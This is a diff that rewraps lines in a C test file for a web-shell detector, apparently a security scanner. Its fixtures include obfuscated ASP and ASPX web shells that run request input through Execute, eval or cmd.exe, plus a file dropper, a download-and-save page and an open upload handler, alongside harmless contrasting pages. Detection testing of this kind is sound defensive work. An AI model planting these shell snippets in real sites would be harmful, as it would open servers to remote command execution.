@@ -65,13 +65,18 @@ static void test_folding(void)
     static const struct page p[] = {
         {"concat.asp", "<%Execute(\"Ex\"&\"ecute(Req\"&\"uest(\"\"a\"\"))\")%>", "EXH-WS-001",
          "request input run as code"},
-        {"chr.asp", "<%Execute(Chr(69)&Chr(120)&\"ecute Request(\"\"b\"\")\")%>", "EXH-WS-001", NULL},
-        {"chrw-hex.asp", "<%Execute(ChrW(&H45)&\"xecute Request(\"\"b\"\")\")%>", "EXH-WS-001", NULL},
-        {"replace.asp", "<%\nq=\"E_x_e_c_u_t_e Request(\"\"c\"\")\"\nq=Replace(q,\"_\",\"\")\nExecute q\n%>",
+        {"chr.asp", "<%Execute(Chr(69)&Chr(120)&\"ecute Request(\"\"b\"\")\")%>", "EXH-WS-001",
+         NULL},
+        {"chrw-hex.asp", "<%Execute(ChrW(&H45)&\"xecute Request(\"\"b\"\")\")%>", "EXH-WS-001",
+         NULL},
+        {"replace.asp",
+         "<%\nq=\"E_x_e_c_u_t_e Request(\"\"c\"\")\"\nq=Replace(q,\"_\",\"\")\nExecute q\n%>",
          "EXH-WS-001", NULL},
-        {"reverse.asp", "<%Execute(StrReverse(\")\"\"d\"\"(tseuqeR etucexE\"))%>", "EXH-WS-001", NULL},
+        {"reverse.asp", "<%Execute(StrReverse(\")\"\"d\"\"(tseuqeR etucexE\"))%>", "EXH-WS-001",
+         NULL},
         {"jscript-plus.aspx",
-         "<%@ Page Language=\"JScript\" %><%var P=\"ev\"+\"al(Req\"+\"uest['e'],'unsafe')\";eval(P,\"un\"+\"safe\");%>",
+         "<%@ Page Language=\"JScript\" %><%var "
+         "P=\"ev\"+\"al(Req\"+\"uest['e'],'unsafe')\";eval(P,\"un\"+\"safe\");%>",
          "EXH-WS-001", NULL},
         /* text that folds to something harmless stays quiet: it is run, but
          * it is neither request input nor built from many fragments */
@@ -86,7 +91,8 @@ static void test_folding(void)
 static void test_utf7(void)
 {
     static const struct page p[] = {
-        {"utf7.asp", "<%@ CodePage=65000 %>\n<%+AEU-xecute(Request(+ACI-w+ACI))%>", "EXH-WS-001", NULL},
+        {"utf7.asp", "<%@ CodePage=65000 %>\n<%+AEU-xecute(Request(+ACI-w+ACI))%>", "EXH-WS-001",
+         NULL},
         /* without the code page the same bytes are plain text: no shell */
         {"not-utf7.asp", "<%@ CodePage=65001 %>\n<%+AEU-xecute(Request(+ACI-w+ACI))%>", "", NULL},
     };
@@ -98,19 +104,24 @@ static void test_functions(void)
 {
     static const struct page p[] = {
         {"vb-wrapper.asp",
-         "<%\nFunction Run(c)\nSet o = CreateObject(\"WScript.Shell\")\nRun = o.Exec(c).StdOut.ReadAll\nEnd Function\n"
+         "<%\nFunction Run(c)\nSet o = CreateObject(\"WScript.Shell\")\nRun = "
+         "o.Exec(c).StdOut.ReadAll\nEnd Function\n"
          "Response.Write Run(\"cmd /c \" & Request(\"q\"))\n%>",
          "EXH-WS-003", "process started"},
         {"vb-wrapper-const.asp",
-         "<%\nFunction Run(c)\nSet o = CreateObject(\"WScript.Shell\")\nRun = o.Exec(c).StdOut.ReadAll\nEnd Function\n"
+         "<%\nFunction Run(c)\nSet o = CreateObject(\"WScript.Shell\")\nRun = "
+         "o.Exec(c).StdOut.ReadAll\nEnd Function\n"
          "Response.Write Run(\"hostname\")\n%>",
          "", NULL},
         {"cs-return.aspx",
-         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nstring Arg() { return Request.Form[\"a\"]; }\n"
-         "void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(\"cmd.exe\", Arg()); }\n</script>",
+         "<%@ Page Language=\"C#\" %><script runat=\"server\">\nstring Arg() { return "
+         "Request.Form[\"a\"]; }\n"
+         "void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(\"cmd.exe\", "
+         "Arg()); }\n</script>",
          "EXH-WS-003", NULL},
         {"js-unsafe-wrapper.aspx",
-         "<script runat=\"server\" language=\"JScript\">\nfunction h(x) { var m = \"un\" + \"safe\"; return eval(x, m); }\n</script>",
+         "<script runat=\"server\" language=\"JScript\">\nfunction h(x) { var m = \"un\" + "
+         "\"safe\"; return eval(x, m); }\n</script>",
          "EXH-WS-006", "full trust"},
     };
     check_pages(p, N(p));
@@ -125,15 +136,19 @@ static void test_scoping(void)
          "using System.IO; using System.Net;\nclass C {\n void Post(string url) {\n"
          "  var request = (HttpWebRequest)WebRequest.Create(\"https://api.contoso.com/x\");\n"
          "  using (var w = new StreamWriter(request.GetRequestStream())) w.Write(\"{}\");\n"
-         "  string p = Path.Combine(\"C:\\\\data\", \"x.txt\");\n  File.WriteAllText(p, \"ok\");\n }\n}\n",
+         "  string p = Path.Combine(\"C:\\\\data\", \"x.txt\");\n  File.WriteAllText(p, \"ok\");\n "
+         "}\n}\n",
          "", NULL},
         /* a name tainted in one method is not the same variable in another */
         {"Scoped.cs",
-         "using System.IO;\nclass D : System.Web.UI.Page {\n void A() { string path = Request[\"p\"]; Response.Write(path); }\n"
-         " void B() { string path = Server.MapPath(\"~/App_Data/log.txt\"); File.AppendAllText(path, \"x\"); }\n}\n",
+         "using System.IO;\nclass D : System.Web.UI.Page {\n void A() { string path = "
+         "Request[\"p\"]; Response.Write(path); }\n"
+         " void B() { string path = Server.MapPath(\"~/App_Data/log.txt\"); "
+         "File.AppendAllText(path, \"x\"); }\n}\n",
          "", NULL},
         {"Unscoped.cs",
-         "using System.IO;\nclass D : System.Web.UI.Page {\n void A() { string path = Request[\"p\"]; File.WriteAllText(path, Request[\"c\"]); }\n}\n",
+         "using System.IO;\nclass D : System.Web.UI.Page {\n void A() { string path = "
+         "Request[\"p\"]; File.WriteAllText(path, Request[\"c\"]); }\n}\n",
          "EXH-WS-004", NULL},
     };
     check_pages(p, N(p));
@@ -165,11 +180,14 @@ static void test_nested(void)
         {"dropper.ashx",
          "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO;\npublic class H {\n"
          " public void ProcessRequest(System.Web.HttpContext c) {\n"
-         "  File.WriteAllText(c.Server.MapPath(\"s.asp\"), \"<%Execute Request(\\\"x\\\")%\" + \">\");\n }\n}\n",
+         "  File.WriteAllText(c.Server.MapPath(\"s.asp\"), \"<%Execute Request(\\\"x\\\")%\" + "
+         "\">\");\n }\n}\n",
          "EXH-WS-001", "carried in a string"},
         {"xslt.aspx",
-         "<%@ Page Language=\"C#\" %><%\nstring x = @\"<msxsl:script language=\"\"JScript\"\" implements-prefix=\"\"u\"\">"
-         "function f() { var r = System.Web.HttpContext.Current.Request; eval(r.Form['x'], 'unsafe'); }</msxsl:script>\";\n%>",
+         "<%@ Page Language=\"C#\" %><%\nstring x = @\"<msxsl:script language=\"\"JScript\"\" "
+         "implements-prefix=\"\"u\"\">"
+         "function f() { var r = System.Web.HttpContext.Current.Request; eval(r.Form['x'], "
+         "'unsafe'); }</msxsl:script>\";\n%>",
          "EXH-WS-001", NULL},
         /* a page in a string that does nothing dangerous */
         {"template.ashx",
@@ -185,44 +203,59 @@ static void test_sinks(void)
 {
     static const struct page p[] = {
         {"sql.aspx",
-         "<%@ Page Language=\"C#\" %><% var c = new System.Data.SqlClient.SqlConnection(Request[\"cs\"]); c.Open(); %>",
+         "<%@ Page Language=\"C#\" %><% var c = new "
+         "System.Data.SqlClient.SqlConnection(Request[\"cs\"]); c.Open(); %>",
          "EXH-WS-014", "SQL"},
         {"sql-param.aspx",
-         "<%@ Page Language=\"C#\" %><% var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * FROM T WHERE id=@i\", conn);"
+         "<%@ Page Language=\"C#\" %><% var cmd = new System.Data.SqlClient.SqlCommand(\"SELECT * "
+         "FROM T WHERE id=@i\", conn);"
          " cmd.Parameters.AddWithValue(\"@i\", Request[\"id\"]); %>",
          "", NULL},
         {"stdin.ashx",
-         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(System.Web.HttpContext ctx) {\n"
-         " var p = new System.Diagnostics.Process(); p.Start(); p.StandardInput.WriteLine(ctx.Request[\"c\"]); } }\n",
+         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(System.Web.HttpContext "
+         "ctx) {\n"
+         " var p = new System.Diagnostics.Process(); p.Start(); "
+         "p.StandardInput.WriteLine(ctx.Request[\"c\"]); } }\n",
          "EXH-WS-003", NULL},
         {"fso.asp",
-         "<%\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nf.DeleteFile Request(\"p\")\n%>", "EXH-WS-004",
-         "file system"},
+         "<%\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nf.DeleteFile "
+         "Request(\"p\")\n%>",
+         "EXH-WS-004", "file system"},
         {"download.asp",
-         "<%\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://files.contoso.com/a\", False\nh.Send\n"
-         "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write h.ResponseBody\ns.SaveToFile Server.MapPath(\"a.asp\"), 2\n%>",
+         "<%\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
+         "\"http://files.contoso.com/a\", False\nh.Send\n"
+         "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write "
+         "h.ResponseBody\ns.SaveToFile Server.MapPath(\"a.asp\"), 2\n%>",
          "EXH-WS-004", "download"},
         {"download-image.asp",
-         "<%\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://files.contoso.com/a\", False\nh.Send\n"
-         "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write h.ResponseBody\ns.SaveToFile Server.MapPath(\"logo.png\"), 2\n%>",
+         "<%\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
+         "\"http://files.contoso.com/a\", False\nh.Send\n"
+         "Set s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\ns.Write "
+         "h.ResponseBody\ns.SaveToFile Server.MapPath(\"logo.png\"), 2\n%>",
          "", NULL},
         {"proxy.asp",
-         "<%\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Request(\"u\"), False\nh.Send\n%>",
+         "<%\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", Request(\"u\"), "
+         "False\nh.Send\n%>",
          "EXH-WS-008", "URL"},
         {"fixed-proxy.asp",
-         "<%\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", \"https://api.contoso.com/?q=\" & Server.URLEncode(Request(\"q\")), False\n%>",
+         "<%\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", "
+         "\"https://api.contoso.com/?q=\" & Server.URLEncode(Request(\"q\")), False\n%>",
          "", NULL},
         {"droprun.asp",
-         "<%\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(\"c:\\windows\\temp\\u.vbs\", True)\n"
-         "t.Write \"WScript.Echo 1\"\nt.Close\nSet w = CreateObject(\"WScript.Shell\")\nw.Run \"c:\\windows\\temp\\u.vbs\", 0\n%>",
+         "<%\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = "
+         "f.CreateTextFile(\"c:\\windows\\temp\\u.vbs\", True)\n"
+         "t.Write \"WScript.Echo 1\"\nt.Close\nSet w = CreateObject(\"WScript.Shell\")\nw.Run "
+         "\"c:\\windows\\temp\\u.vbs\", 0\n%>",
          "EXH-WS-003", "runs it"},
         {"include.asp", "<!--#include file=\"pic.gif\"-->\n<p>x</p>", "EXH-WS-015", NULL},
         {"include-ok.asp", "<!--#include file=\"inc/header.inc\"-->\n<p>x</p>", "", NULL},
         {"comrun.asp",
-         "<%\nSet e = Server.CreateObject(\"Vendor.Engine\")\ne.Run \"x\", Request, Response, Server\n%>", "EXH-WS-006",
-         "COM object"},
+         "<%\nSet e = Server.CreateObject(\"Vendor.Engine\")\ne.Run \"x\", Request, Response, "
+         "Server\n%>",
+         "EXH-WS-006", "COM object"},
         {"alias.asp",
-         "<script runat=\"server\" language=\"JScript\">var o = {r: eval}; o.r(Request.Form(\"d\") + \"\");</script>",
+         "<script runat=\"server\" language=\"JScript\">var o = {r: eval}; o.r(Request.Form(\"d\") "
+         "+ \"\");</script>",
          "EXH-WS-001", NULL},
         {"fragment.asp", "0\":Execute(Request(\"z\")):x=\"\n", "EXH-WS-001", NULL},
     };
@@ -234,22 +267,29 @@ static void test_sanitisers(void)
 {
     static const struct page p[] = {
         {"dotdot.ashx",
-         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(System.Web.HttpContext c) {\n"
-         " string v = c.Request.Params[\"dir\"].Replace(\"..\", string.Empty);\n c.Request.Files[0].SaveAs(v); } }\n",
+         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void P(System.Web.HttpContext "
+         "c) {\n"
+         " string v = c.Request.Params[\"dir\"].Replace(\"..\", string.Empty);\n "
+         "c.Request.Files[0].SaveAs(v); } }\n",
          "", NULL},
         {"guid.aspx",
-         "<%@ Page Language=\"C#\" %><% var g = new Guid(Request[\"id\"]); System.IO.File.WriteAllText(Server.MapPath(\"~/d/\") + g, \"x\"); %>",
+         "<%@ Page Language=\"C#\" %><% var g = new Guid(Request[\"id\"]); "
+         "System.IO.File.WriteAllText(Server.MapPath(\"~/d/\") + g, \"x\"); %>",
          "", NULL},
         {"null-check-gate.aspx",
-         "<%@ Page Language=\"C#\" %><% if (Request.Params.Get(\"addpart\") != null) { System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/p.dll\")); } %>",
+         "<%@ Page Language=\"C#\" %><% if (Request.Params.Get(\"addpart\") != null) { "
+         "System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/p.dll\")); } %>",
          "", NULL},
         {"upload-allowlist.aspx",
-         "<%@ Page Language=\"C#\" %><% var up = Request.Files[0]; if (System.IO.Path.GetExtension(up.FileName) == \".jpg\")"
-         " up.SaveAs(System.IO.Path.Combine(Server.MapPath(\".\"), System.IO.Path.GetFileName(up.FileName))); %>",
+         "<%@ Page Language=\"C#\" %><% var up = Request.Files[0]; if "
+         "(System.IO.Path.GetExtension(up.FileName) == \".jpg\")"
+         " up.SaveAs(System.IO.Path.Combine(Server.MapPath(\".\"), "
+         "System.IO.Path.GetFileName(up.FileName))); %>",
          "", NULL},
         {"upload-any.aspx",
          "<%@ Page Language=\"C#\" %><% var up = Request.Files[0];"
-         " up.SaveAs(System.IO.Path.Combine(Server.MapPath(\".\"), System.IO.Path.GetFileName(up.FileName))); %>",
+         " up.SaveAs(System.IO.Path.Combine(Server.MapPath(\".\"), "
+         "System.IO.Path.GetFileName(up.FileName))); %>",
          "EXH-WS-004", "beside the page"},
     };
     check_pages(p, N(p));
@@ -273,7 +313,9 @@ static void test_bounds(void)
     /* a chain of three nested strings: the third level is not analysed
      * (NEST_DEPTH 2), so the page gives nothing rather than recursing */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, "<%@ Page Language=\"JScript\" %><%var a = \"<%var b = '<%eval(Request.Item[1])%>'%>\";%>");
+    exh_buf_adds(
+        &b,
+        "<%@ Page Language=\"JScript\" %><%var a = \"<%var b = '<%eval(Request.Item[1])%>'%>\";%>");
     run(&r, "deep.aspx", b.p, b.n);
     CHECK_EQ_INT(r.nerrors, 0);
     exh_result_release(&r);
@@ -313,7 +355,8 @@ static void test_bounds(void)
     run(&r, "grow.aspx", b.p, b.n);
     CHECK_EQ_INT(r.nerrors, 1);
     if (r.nerrors)
-        CHECK(strstr(r.errors[0].message ? r.errors[0].message : "", "strings goes beyond the analysis budget") != NULL);
+        CHECK(strstr(r.errors[0].message ? r.errors[0].message : "",
+                     "strings goes beyond the analysis budget") != NULL);
     CHECK_EQ_STR(ws(&r) ? ws(&r)->rule->id : "", "EXH-WS-001");
     exh_result_release(&r);
     exh_buf_release(&b);
